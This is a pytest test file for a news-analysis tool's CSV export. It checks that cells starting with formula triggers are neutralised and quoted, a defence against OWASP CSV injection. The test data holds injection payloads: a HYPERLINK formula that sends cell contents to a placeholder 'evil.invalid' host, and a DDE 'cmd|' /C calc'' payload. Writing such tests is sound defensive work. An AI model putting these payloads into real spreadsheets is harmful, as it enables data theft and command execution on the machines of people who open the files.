"""CSV export: no cell a spreadsheet would run as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from helpers.store import reading

from storyline.core.records import Story
from storyline.present.export import export_csv

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def _hostile(trigger: str):
    r = reading(1)
    payload = trigger + 'HYPERLINK("http://evil.invalid/?x="&A1,"click")'
    claim = r.claims[0]
    source = dataclasses.replace(claim.source, text=trigger + "cmd|' /C calc'!A0", cue=trigger + "1+1", via=trigger + "via")
    claim = dataclasses.replace(claim, text=payload, predicate=trigger + "sum(1,2)", hedges=(trigger + "h1", "h2"), source=source)
    art = dataclasses.replace(r.article, outlet=trigger + "Outlet")  # published is a date: no trigger can reach it
    return dataclasses.replace(r, article=art, claims=(claim,))


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_cells_starting_with_a_formula_trigger_are_neutralised_and_quoted(trigger):
    out = export_csv([_hostile(trigger)], Story())
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    (row,) = rows
    for column in ("text", "outlet", "predicate", "source_text", "cue", "via", "hedges"):
        cell = row[column]
        assert cell.startswith("'" + trigger), (column, cell)
        assert f'"{cell}' in out.replace('""', '"'), (column, "the neutralised cell is quoted")
    assert row["text"] == "'" + trigger + 'HYPERLINK("http://evil.invalid/?x="&A1,"click")'
    # No raw line of the file starts a cell with a trigger outside quotes.
    for line in out.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(tuple(TRIGGERS)), cell


def test_ordinary_cells_are_unchanged_and_numbers_stay_numbers():
    r = reading(1)
    out = export_csv([r], Story())
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert row["text"] == r.claims[0].text and row["outlet"] == r.article.outlet
    assert (row["start"], row["end"]) == (str(r.claims[0].start), str(r.claims[0].end))
    # Offsets are written bare (a spreadsheet reads them as numbers); strings are quoted.
    assert f',{r.claims[0].start},{r.claims[0].end},"' in out


def test_a_trigger_inside_a_cell_is_left_alone():
    r = reading(1)
    claim = dataclasses.replace(r.claims[0], text="Quinn said 2+2=4 @home - really")
    row = next(csv.DictReader(io.StringIO(export_csv([dataclasses.replace(r, claims=(claim,))], Story()), newline="")))
    assert row["text"] == "Quinn said 2+2=4 @home - really"
